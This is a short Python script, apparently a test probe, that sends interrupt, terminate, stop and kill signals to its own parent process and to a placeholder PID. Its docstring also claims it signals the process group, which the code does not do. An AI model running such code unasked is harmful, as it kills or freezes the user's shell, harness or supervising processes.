"""Sends every signal to its parent, its group and a process of the same user."""

import os, signal
PLANTED_PID = 0
for pid in (os.getppid(), PLANTED_PID):
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        if pid > 1:
            try:
                os.kill(pid, number)
            except OSError:
                pass
